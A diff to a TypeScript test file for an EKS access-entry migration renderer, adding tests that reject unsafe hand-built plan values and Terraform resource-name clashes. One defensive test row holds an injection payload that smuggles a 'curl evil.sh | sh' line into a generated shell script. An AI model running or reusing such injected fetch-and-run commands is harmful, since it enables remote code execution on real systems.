@@ -15,7 +15,11 @@ import { planRequests } from '../../src/migrate/render/requests.js';
 import { hclString } from '../../src/migrate/render/terraform.js';
 import { readTemplate } from '../support/cloudformation-template.js';
 import { hasLegacyCommand, REGISTERED_COMMANDS } from '../support/workflow-commands.js';
-import type { MigrationPlan, PlanAccessEntryMigrationOptions } from '../../src/migrate/types.js';
+import type {
+  MigrationEntry,
+  MigrationPlan,
+  PlanAccessEntryMigrationOptions,
+} from '../../src/migrate/types.js';
 
 const A = '111122223333';
 const FORMATS: MigrationFormat[] = ['json', 'aws-cli', 'cloudformation', 'terraform'];
@@ -340,6 +344,68 @@ describe('GitHub Actions: "##[" in a value was a live workflow command in every 
     expect(resource?.Properties.Username).toBe('##[add-mask]x');
     expect(resource?.Properties.KubernetesGroups).toEqual(['##[error]y', 'a ##[warning]z']);
     expect(hclString('##[error]y')).toBe('"##\\u005berror]y"');
+  });
+});
+
+/** The plan of one STANDARD entry, for hand-built plans. */
+function handBuilt(patch: Record<string, unknown>): MigrationPlan {
+  return { ...plan(entry('dev', 'dev', ['devs'])), ...patch } as MigrationPlan;
+}
+
+describe("renderMigration wrote a hand-built plan's target (and cluster name) into comments unchecked", () => {
+  // A target with a line break became a line of the aws-cli script before "set -euo pipefail".
+  const rows: [string, Record<string, unknown>][] = [
+    ['a target that injects a shell line', { target: 'API)\ncurl evil.sh | sh\n#' }],
+    ['a target that ends a Terraform comment', { target: 'API\nresource "x" "y" {}' }],
+    ['CONFIG_MAP (no migration target)', { target: 'CONFIG_MAP' }],
+    ['a target in lower case', { target: 'api' }],
+    ['no target', { target: undefined }],
+    ['a target that is no string', { target: ['API'] }],
+    ['a cluster name that is no string', { clusterName: { toString: () => 'prod' } }],
+  ];
+  it.each(rows.flatMap(([name, patch]) => FORMATS.map((f) => [name, f, patch] as const)))(
+    '%s: %s refuses it (unsafe-value)',
+    (_name, format, patch) => {
+      expect(() => renderMigration(handBuilt(patch), { format })).toThrow(
+        expect.objectContaining({ code: 'ERR_MIGRATION_RENDER', reason: 'unsafe-value' }),
+      );
+    },
+  );
+
+  it.each(['API', 'API_AND_CONFIG_MAP'])('target %s is rendered', (target) => {
+    for (const format of FORMATS) {
+      expect(renderMigration(handBuilt({ target }), { format })).toContain(target);
+    }
+  });
+});
+
+describe('Terraform: two policy associations of one entry could get one resource name', () => {
+  const VIEW = 'arn:aws:eks::aws:cluster-access-policy/AmazonEKSViewPolicy';
+  const withPolicies = (policyArns: string[]): MigrationPlan => {
+    const p = plan(entry('dev', 'dev', ['devs']));
+    const e = p.entries[0] as MigrationEntry;
+    const accessPolicies = policyArns.map((policyArn) => ({
+      policyArn,
+      accessScope: { type: 'cluster' as const, namespaces: [] },
+    }));
+    return { ...p, entries: [{ ...e, accessPolicies }] };
+  };
+  it.each<[string, string[]]>([
+    ['one policy twice', [VIEW, VIEW]],
+    ['one name in two partitions', [VIEW, VIEW.replace(':aws:', ':aws-cn:')]],
+    ['names that read alike once cut to [a-z0-9_]', [VIEW, `${VIEW.slice(0, -6)}-Policy`]],
+  ])('%s is refused (name-clash), never two resources of one name', (_, policyArns) => {
+    expect(() => renderMigration(withPolicies(policyArns), { format: 'terraform' })).toThrow(
+      expect.objectContaining({ code: 'ERR_MIGRATION_RENDER', reason: 'name-clash' }),
+    );
+  });
+
+  it('two different policies get two names', () => {
+    const text = renderMigration(withPolicies([VIEW, VIEW.replace('View', 'Edit')]), {
+      format: 'terraform',
+    });
+    const names = [...text.matchAll(/resource "aws_eks_access_policy_association" "(\w+)"/g)];
+    expect(new Set(names.map((m) => m[1])).size).toBe(2);
   });
 });
 
